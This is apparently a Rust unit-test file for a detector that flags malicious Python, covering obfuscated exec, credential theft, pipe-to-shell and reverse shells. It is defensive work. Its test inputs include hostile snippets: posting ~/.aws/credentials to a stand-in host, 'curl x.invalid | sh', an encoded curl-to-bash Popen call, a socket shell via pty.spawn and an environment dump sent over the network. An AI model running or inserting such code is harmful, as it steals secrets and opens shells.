//! Unit tests of the Python walker: signals, scopes and data flow.

use super::*;

fn kinds(src: &str) -> Vec<(Kind, bool)> {
    analyze(src.as_bytes())
        .unwrap()
        .signals
        .iter()
        .map(|s| (s.kind, s.top_level))
        .collect()
}

#[test]
fn exec_of_decoded_data() {
    let k = kinds("import base64\nexec(base64.b64decode('aW1wb3J0IG9z'))\n");
    assert!(k.contains(&(Kind::ExecDecoded, true)), "{k:?}");
    assert!(k.contains(&(Kind::Decode, true)));
}

#[test]
fn scopes_and_main_guard() {
    let k = kinds(
        "import subprocess\ndef f():\n    subprocess.run(['x'])\nif __name__ == '__main__':\n    subprocess.run(['y'])\n",
    );
    assert!(
        k.iter()
            .all(|(kind, top)| *kind != Kind::Subprocess || !top),
        "{k:?}"
    );
    let k = kinds("__import__('os').system('id')\n");
    assert!(k.contains(&(Kind::Subprocess, true)), "{k:?}");
}

#[test]
fn credentials_and_sends() {
    let src = "import os, requests\ndef steal():\n    p = os.path.expanduser('~/.aws/credentials')\n    d = open(p).read()\n    requests.post('https://x.invalid', data=d)\n";
    let s = analyze(src.as_bytes()).unwrap();
    assert!(s.together(&[&[Kind::CredentialFile], &[Kind::NetworkSend]]));
    assert!(s.has(Kind::FileRead));
}

#[test]
fn hook_shapes() {
    let distutils = b"import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') == 'local'; enabled and __import__('_distutils_hack').add_shim(); ";
    assert!(benign_hook_shape(distutils));
    assert!(benign_hook_shape(b"import _virtualenv"));
    assert!(benign_hook_shape(
        b"import __editable___x_finder; __editable___x_finder.install()"
    ));
    assert!(benign_hook_shape(b"import os; os.environ.get('COVERAGE_PROCESS_START') and __import__('coverage').process_startup()"));
    assert!(!benign_hook_shape(
        b"import base64; exec(base64.b64decode('aW1wb3J0IG9z'))"
    ));
    assert!(!benign_hook_shape(
        b"import os; os.system('curl x.invalid | sh')"
    ));
}

#[test]
fn literal_exec_is_not_dynamic() {
    let k = kinds("exec('x = 1')\n");
    assert!(!k.iter().any(|(kind, _)| *kind == Kind::Exec), "{k:?}");
}

fn has(src: &str, k: Kind) -> bool {
    analyze(src.as_bytes()).unwrap().has(k)
}

#[test]
fn decoded_names_and_wrappers_reach_exec() {
    // Through a variable, a constant and rot13.
    assert!(has(
        "import base64\ncode = base64.b64decode(P)\nexec(code)\n",
        Kind::ExecDecoded
    ));
    assert!(has(
        "import codecs\n_S = 'vzcbeg bf'\nexec(codecs.decode(_S, 'rot13'))\n",
        Kind::ExecDecoded
    ));
    // A lambda that executes its parameter, called with decoded data.
    assert!(has(
        "import zlib, base64\nrun = lambda s: exec(s)\ndef boot():\n    run(zlib.decompress(base64.b64decode(P)))\nboot()\n",
        Kind::ExecDecoded
    ));
    // A decoder function's result executed.
    let s = analyze(
        b"_ = lambda x: __import__('zlib').decompress(__import__('base64').b64decode(x[::-1]))\nexec((_)(b'=Aa'))\n",
    )
    .unwrap();
    assert!(s.has(Kind::ExecDecoded), "{:?}", s.signals);
}

#[test]
fn fetched_code_is_told_apart_from_unrelated_eval() {
    assert!(has(
        "import urllib.request\ndef f(u):\n    r = urllib.request.urlopen(u)\n    code = r.read()\n    exec(code)\n",
        Kind::ExecFetched
    ));
    // IPython's shape: a URL fetched and a name evaluated in one function.
    let s = analyze(
        b"from urllib.request import urlopen\ndef find(target, ns):\n    if target.startswith('http'):\n        return urlopen(target).read()\n    return eval(target, ns)\n",
    )
    .unwrap();
    assert!(
        !s.has(Kind::ExecFetched) && s.has(Kind::Exec),
        "{:?}",
        s.signals
    );
}

#[test]
fn payloads_in_other_encodings_are_read() {
    // hex of `import socket; socket.socket().sendall(b'x')`
    let hex: String = b"import socket; s = socket.socket(); s.sendall(b'x')"
        .iter()
        .map(|b| format!("{b:02x}"))
        .collect();
    let s = analyze(format!("exec(bytes.fromhex('{hex}').decode())\n").as_bytes()).unwrap();
    assert!(s.has(Kind::NetworkSend), "{:?}", s.signals);
    let codes: Vec<String> = b"import os; os.system('id')"
        .iter()
        .map(|b| b.to_string())
        .collect();
    let s = analyze(
        format!(
            "_C = [{}]\nexec(''.join(chr(x) for x in _C))\n",
            codes.join(", ")
        )
        .as_bytes(),
    )
    .unwrap();
    assert!(s.has(Kind::Subprocess), "{:?}", s.signals);
}

#[test]
fn builtins_reached_by_name() {
    assert!(has(
        "getattr(__import__('builtins'), 'ex' + 'ec')(__import__('base64').b64decode(P))\n",
        Kind::ExecDecoded
    ));
    assert!(has(
        "__builtins__.__dict__['exec'](src)\n",
        Kind::DynamicBuiltin
    ));
    assert!(has("__builtins__.__dict__['exec'](src)\n", Kind::Exec));
}

#[test]
fn commands_from_argument_lists_and_decoded_commands() {
    assert!(has(
        "import subprocess\nsubprocess.run(['twine', 'upload', 'dist/*'])\n",
        Kind::Publish
    ));
    assert!(has(
        "import subprocess, base64\nsubprocess.Popen(base64.b64decode('Y3VybCAtcyBodHRwczovL3guaW52YWxpZC9pIHwgYmFzaA==').decode(), shell=True)\n",
        Kind::PipeToShell
    ));
}

#[test]
fn sends_and_host_facts() {
    assert!(has(
        "import http.client\nc = http.client.HTTPSConnection('x.invalid')\nc.request('POST', '/', body=b)\n",
        Kind::NetworkSend
    ));
    // A timeout is not data.
    assert!(!has(
        "import urllib.request\nurllib.request.urlopen(url, timeout=600.0)\n",
        Kind::NetworkSend
    ));
    assert!(has(
        "import urllib.request\nurllib.request.urlopen(url, payload)\n",
        Kind::NetworkSend
    ));
    assert!(has(
        "import socket\nh = socket.gethostname()\n",
        Kind::HostInfo
    ));
    assert!(has(
        "import os, socket, pty\ns = socket.socket()\nos.dup2(s.fileno(), 0)\npty.spawn('/bin/sh')\n",
        Kind::SocketShell
    ));
}

#[test]
fn environment_dumps() {
    assert!(has(
        "import os, requests\nrequests.post(U, json={k: v for k, v in os.environ.items()})\n",
        Kind::EnvDump
    ));
    // One variable, or a filtered comprehension, is not a dump.
    assert!(!has(
        "import os\np = str(Path(os.environ['VIRTUAL_ENV'], 'Lib'))\n",
        Kind::EnvDump
    ));
    assert!(!has(
        "import os, requests\nrequests.post(U, json={k: v for k, v in os.environ.items() if k.startswith('APP_')})\n",
        Kind::EnvDump
    ));
}
